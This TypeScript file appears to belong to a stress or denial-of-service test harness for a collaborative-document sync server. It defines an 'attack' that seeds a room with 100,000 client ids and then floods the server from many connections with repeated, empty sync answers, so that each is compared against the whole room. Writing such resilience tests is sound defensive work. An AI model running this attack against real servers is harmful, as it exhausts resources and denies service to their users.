import { encodeDeletes, updateOf } from "../../../support/made-updates.ts";
import { encodeRaw } from "../../../support/raw-messages.ts";
import type { Attack } from "../attack.ts";
import { frame, repeated } from "../raw-socket.ts";

const CLIENTS = 100_000;
const KNOWN = encodeDeletes([{ client: 7, from: 0, length: 1 }]);
const ANSWERS = repeated(frame(encodeRaw({ type: "step2", update: KNOWN })), 300);
const MOST_WAITING = 4 * ANSWERS.length;

/** Each answer to the server's state vector is compared with everything in the room. */
export const attack: Attack = {
  name: "sync answers that contain nothing new, in a room with many client ids",
  connections: [1, 16],
  prepare: async (target) => {
    const runs = Array.from({ length: CLIENTS }, (_, i) => ({
      client: 7 * (i + 1),
      from: 0,
      length: 1,
    }));
    const writer = await target.connect();
    writer.send(
      encodeRaw({
        type: "update",
        update: updateOf(runs, [runs[0] ?? { client: 7, from: 0, length: 1 }]),
      }),
    );
    await writer.drained();
  },
  run: async (target) => {
    const clients = await target.connectAll();
    while (!target.over) {
      for (const client of clients) if (client.waiting < MOST_WAITING) client.write(ANSWERS);
      await target.pause(20);
    }
  },
};
